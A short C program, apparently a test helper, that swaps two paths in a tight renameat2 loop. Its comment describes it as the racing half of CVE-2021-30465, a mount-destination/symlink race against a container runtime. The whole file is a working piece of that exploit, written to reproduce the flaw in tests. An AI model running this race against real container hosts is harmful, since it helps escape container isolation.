/*
 * Exchanges two paths (renameat2 RENAME_EXCHANGE) again and again until killed: the racing half of
 * CVE-2021-30465, which swaps a mount's destination with a symlink while the runtime resolves and mounts it.
 * Prints "swapping" once it has swapped the first time, so that a test can wait for it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int swap(const char *a, const char *b) {
    return (int) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s PATH PATH\n", argv[0]);
        return 2;
    }
    if (swap(argv[1], argv[2]) < 0) {
        perror("renameat2");
        return 1;
    }
    printf("swapping\n");
    fflush(stdout);
    for (;;) {
        if (swap(argv[1], argv[2]) < 0) {
            perror("renameat2");
            return 1;
        }
    }
}
